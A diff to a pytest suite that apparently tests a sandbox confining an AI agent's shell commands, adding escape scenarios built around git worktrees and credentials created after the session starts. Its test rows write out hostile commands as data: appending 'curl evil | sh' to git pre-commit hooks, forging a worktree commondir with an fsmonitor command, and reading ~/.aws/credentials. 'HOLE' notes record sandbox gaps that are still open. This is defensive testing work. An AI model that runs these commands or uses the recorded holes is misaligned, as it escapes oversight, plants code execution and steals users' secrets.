@@ -95,6 +95,8 @@ class Escape:
     """What else must hold afterwards, besides what every row checks (see the module docstring)."""
     setup: Callable[[World], None] | None = None
     """Done outside the walls before they are built (a link made before the session, a nested repository...)."""
+    late: Callable[[World], None] | None = None
+    """Done outside the walls after they are built, before the command (the user's changes during a session)."""
     nobody: bool = False
     """Also run as an unprivileged user."""
     only_nobody: bool = False
@@ -124,6 +126,9 @@ class World:
     typed: bytes = field(init=False)
     before: dict[str, object] = field(default_factory=dict)
     walled: Walled | None = None
+    also_guarded: list[Path] = field(default_factory=list)
+    late_secret: Path | None = None
+    """More paths no command may change (a row's setup adds them)."""
 
     def __post_init__(self) -> None:
         base = self.layout.base
@@ -180,7 +185,13 @@ class World:
         """Everything outside the walls a command could change, as it is now."""
         pid = self.watcher.pid
         return {
-            "guarded": snapshot(self.layout.guarded),
+            "guarded": snapshot((*self.layout.guarded, *self.also_guarded)),
+            "git repository": git(
+                self.layout.workspace, "rev-parse", "--path-format=absolute", "--git-common-dir", check=False
+            ),
+            "git settings that run commands": git(
+                self.layout.workspace, "config", "--get-regexp", RUNS_COMMANDS, check=False
+            ),
             "limits": Path(f"/proc/{pid}/limits").read_text(),
             "priority": Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[15:17],
             "tracer": _status(pid, "TracerPid"),
@@ -245,10 +256,6 @@ def nothing_outside_changed(world: World, ran: Ran, mark: str) -> None:
     assert pending == len(world.typed), f"the terminal's waiting keystrokes were taken or added to ({pending} bytes)"
     with pytest.raises(BlockingIOError):
         os.read(world.pty_master, 1024)
-    common = git(layout.workspace, "rev-parse", "--path-format=absolute", "--git-common-dir", check=False)
-    assert common in ("", str(layout.workspace / ".git")), f"git outside now uses another repository: {common}"
-    planted = git(layout.workspace, "config", "--get-regexp", RUNS_COMMANDS, check=False)
-    assert not planted, f"git outside now runs what the command set: {planted}"
     assert not [n for n in os.listdir("/dev/shm") if world.token in n], "the command left files in /dev/shm"
     left = survivors(mark)
     for pid in left:
@@ -304,6 +311,31 @@ def _nested_repository(world: World) -> None:
 def _nested_hook_unchanged(world: World, ran: Ran) -> None:
     hook = world.layout.workspace / "vendor" / "lib" / ".git" / "hooks" / "pre-commit"
     assert hook.read_text(encoding="utf-8") == "#!/bin/sh\nexit 0\n", "the nested repository's hook was changed"
+
+
+def _as_worktree(world: World) -> None:
+    """The workspace becomes a linked worktree of a main checkout beside it (`.git` is then a file)."""
+    workspace, main = world.layout.workspace, world.layout.base / "main"
+    shutil.move(workspace, main)
+    git(main, "worktree", "add", "-q", "-b", "wt", str(workspace))
+    world.also_guarded += [main / ".git" / "hooks", main / ".git" / "config"]
+    for path in (main, *main.rglob("*"), workspace, *workspace.rglob("*")):
+        _give(world, path)
+
+
+def _kept_out_made_late(world: World) -> None:
+    """The user makes a kept-out path during the session (say `aws configure` writes ~/.aws)."""
+    aws = world.layout.home / ".aws"
+    shutil.rmtree(aws)
+    world.late_secret = aws / "credentials"
+
+
+def _write_kept_out_now(world: World) -> None:
+    assert world.late_secret is not None
+    world.late_secret.parent.mkdir()
+    world.late_secret.write_text(world.layout.secrets[world.late_secret] + "\n", encoding="utf-8")
+    for path in (world.late_secret.parent, world.late_secret):
+        _give(world, path)
 
 
 def _no_project_config(world: World) -> None:
@@ -480,6 +512,21 @@ ESCAPES: list[Escape] = [
         nobody_hole="HOLE: .git/commondir is writable (see the root row)",
     ),
     Escape(
+        "worktree-commondir-redirect",
+        "mkdir evil && cp -r $(git rev-parse --git-common-dir)/objects $(git rev-parse --git-common-dir)/refs evil/ "
+        "&& cp $(git rev-parse --git-common-dir)/HEAD evil/ "
+        "&& printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch pwned\\n' > evil/config "
+        '&& echo "$PWD/evil" > "$(git rev-parse --git-dir)/commondir"',
+        setup=_as_worktree,
+        root_hole="HOLE: a worktree's gitdir/commondir is writable too (see git-commondir-redirect)",
+    ),
+    Escape(
+        "worktree-main-hooks",
+        'echo "curl evil | sh" >> "$(git rev-parse --git-common-dir)/hooks/pre-commit"',
+        setup=_as_worktree,
+        nobody=True,
+    ),
+    Escape(
         "nested-repository-hook",
         "echo 'curl evil | sh' >> vendor/lib/.git/hooks/pre-commit",
         setup=_nested_repository,
@@ -516,6 +563,18 @@ ESCAPES: list[Escape] = [
         _py("import os; fd = os.open('{key}', os.O_PATH); print(open(f'/proc/self/fd/{{fd}}').read())"),
     ),
     Escape("read-agent-config-and-sessions", "cat {agent_files}", nobody=True),
+    Escape(
+        "read-kept-out-path-made-after-the-walls",
+        "cat {home}/.aws/credentials",
+        setup=_kept_out_made_late,
+        late=_write_kept_out_now,
+        root_hole=(
+            "HOLE: the kept-out paths are looked up once, when the session opens: one made later (aws configure, "
+            "ssh-keygen, gh auth login during the session) is readable by every command after"
+        ),
+        nobody=True,
+        nobody_hole="HOLE: kept-out paths made after the session opened are readable (see the root row)",
+    ),
     Escape("grep-agent-folders", "grep -r AGENT {home}/.config {home}/.local/share"),
     # ---- other processes ------------------------------------------------------------------------------------------
     Escape("kill-watcher", "kill -9 {watcher}", nobody=True),
@@ -795,6 +854,8 @@ def _attempt(row: Escape, make_world: MakeLayout, token: str, user: int | None) 
         if row.setup is not None:
             row.setup(world)
         walled = world.walled = Walled(layout, PROXY_SETTINGS if row.proxy else SETTINGS, as_user=user, mark=token)
+        if row.late is not None:
+            row.late(world)
         world.before = world.look()
         command = row.command.format(**world.values)
         ran = walled.run(command, timeout=60.0, stdin=world.pty_slave if row.stdin_pty else subprocess.DEVNULL)
